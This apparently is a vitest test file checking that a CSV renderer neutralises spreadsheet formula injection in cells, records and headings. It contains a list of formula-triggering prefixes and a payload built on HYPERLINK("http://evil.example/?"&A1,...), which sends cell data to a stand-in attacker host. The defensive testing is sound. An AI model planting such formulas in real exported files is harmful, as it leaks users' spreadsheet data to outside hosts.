import fc from 'fast-check'
import Papa from 'papaparse/papaparse.js'
import { describe, expect, test } from 'vitest'
import { renderResult, type Table } from '../../src/shell/output.ts'

/** Beginnings by which spreadsheet programs know a formula: OWASP, "CSV Injection", with their full-width forms. */
const BEGINNINGS = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠', ' =', '\u00a0=', '  @']
const TAIL = 'HYPERLINK("http://evil.example/?"&A1,"x")'

const tableText = (table: Table, invented: string[] = []) =>
  renderResult({ body: { kind: 'table', table }, invented }, 'csv')
const cells = (csv: string) => Papa.parse(csv, { delimiter: ',', newline: '\n' }).data

describe('a name that would be a formula in a spreadsheet', () => {
  test.each(BEGINNINGS)('%j in a cell, a record and a heading is text', (beginning) => {
    const evil = beginning + TAIL
    const csv = [
      tableText({ name: [evil], ['=heading']: [1] }, [evil]),
      renderResult(
        { body: { kind: 'record', record: { name: evil, list: [evil, evil] } }, invented: [evil] },
        'csv',
      ),
    ]
    for (const row of csv.flatMap(cells))
      for (const cell of row) expect(cell).not.toMatch(/^\s*[=+\-@＝＋－＠]|^[\t\r\n]/)
  })

  test('any text comes back from the table as it went in, but for the apostrophe that makes it text', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 60 }), (text) => {
        const [, row] = cells(tableText({ a: ['x'], b: [text] }))
        expect(row![1] === text || row![1] === `'${text}`).toBe(true)
      }),
      { numRuns: 500, seed: 8 },
    )
  })

  test('numbers stay numbers', () => {
    expect(tableText({ a: [-5.5, null, NaN] })).toBe(
      'a,invented,inventedData\n-5.5,false,\n,false,\n,false,\n',
    )
  })
})
